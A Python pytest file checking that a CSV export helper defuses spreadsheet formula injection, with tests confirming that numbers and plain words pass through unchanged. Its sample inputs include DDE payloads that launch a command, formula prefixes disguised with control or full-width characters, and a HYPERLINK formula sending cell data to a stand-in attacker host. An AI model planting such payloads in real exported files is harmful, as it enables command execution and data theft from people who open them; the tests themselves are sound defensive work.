"""Text of others is no formula in any CSV; tests/report has each file that is written, whole."""

import csv
import io
from typing import Any

import pytest

from madke.report.tables import csv_cell

FORMULAS = [
    "=cmd|'/c calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\n=1",
    "\r=1",
    "\x00=1",
    "\u200b=1",
    "\ufeff@x",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    '=HYPERLINK("https://evil.example/?"&A1)',
    '","=1',
]


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_begins_as_a_formula(text: Any) -> None:
    line = io.StringIO()
    csv.writer(line).writerow([csv_cell(text), csv_cell("1")])
    line.seek(0)
    first, second = next(csv.reader(line))
    assert first[0] not in "=+-@\t\r\n\x00\uff1d\uff0b\uff0d\uff20"
    assert second == "1"


@pytest.mark.parametrize("text", ["-1.5", "+3e-4", "Lake Baikal", "a=b", "1-2", "", 'ja, "so"', "日本"])
def test_figures_and_words_stay_as_they_are(text: str) -> None:
    assert csv_cell(text) == text
